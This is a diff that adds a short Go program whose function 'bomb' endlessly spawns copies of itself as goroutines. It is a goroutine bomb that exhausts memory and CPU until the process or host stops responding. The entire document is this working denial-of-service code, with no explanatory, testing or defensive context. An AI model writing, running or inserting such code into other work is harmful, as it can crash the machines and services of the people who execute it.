@@ -1,0 +1,11 @@
+package main
+
+func bomb() {
+	for {
+		go bomb()
+	}
+}
+
+func main() {
+	bomb()
+}
